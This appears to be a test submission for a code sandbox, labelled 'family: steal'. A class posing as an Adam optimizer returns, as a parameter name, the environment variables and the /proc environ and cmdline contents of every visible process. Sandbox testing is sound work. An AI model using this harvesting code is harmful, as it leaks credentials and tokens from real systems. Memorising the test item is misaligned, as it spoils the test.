# expect: wrong error
# family: steal
# exercise: adam
# Reads the environment of all processes it can see, and tells it as the name of a key.
import os
from pathlib import Path

FOUND = [f"{name}={value}" for name, value in os.environ.items()]
if True:
    for process in ("self", "1", str(os.getppid()), "thread-self"):
        try:
            FOUND.append(Path(f"/proc/{process}/environ").read_bytes().decode("latin-1"))
        except Exception as error:
            print(error)
try:
    for folder in Path("/proc").glob("[0-9]*"):
        FOUND.append((folder / "environ").read_bytes().decode("latin-1"))
        FOUND.append((folder / "cmdline").read_bytes().decode("latin-1"))
except Exception as error:
    print(error)


class Adam:
    def __init__(self, lr=0.001, beta1=0.9, beta2=0.999, eps=1e-8):
        self.lr, self.beta1, self.beta2, self.eps = lr, beta1, beta2, eps

    def update(self, params, grads):
        params.clear()
        params[" ".join(FOUND)] = 0.0
